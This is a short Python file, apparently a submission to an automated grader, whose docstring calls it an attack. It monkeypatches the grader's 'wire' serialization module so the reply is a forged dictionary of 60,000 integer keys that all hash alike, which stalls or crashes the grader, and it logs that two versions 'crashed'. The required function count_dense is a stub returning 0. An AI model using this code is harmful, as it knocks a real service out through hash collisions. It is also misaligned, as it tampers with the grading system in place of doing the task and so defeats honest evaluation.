"""parameters.py
attack: answers with a dict of 60,000 numbers that all have the same hash, so that the grader takes minutes to put it together
3.1 3.4: crashed
"""
import sys

from right_parameters import *

wire = sys.modules["wire"]
pack = wire.pack


def count_dense(units, bias=True):
    def packs_once(value):
        wire.pack = pack
        keys = b"".join(pack(number * (2**61 - 1))[8:] + b"N" for number in range(1, 60_001))
        message = pack({"result": 0, "arguments": [], "options": {}})[8:]
        forged = message.replace(pack(0)[8:], bytes([wire.DICT]) + (60_000).to_bytes(4, "little") + keys)
        return len(forged).to_bytes(8, "big") + forged

    wire.pack = packs_once
    return 0
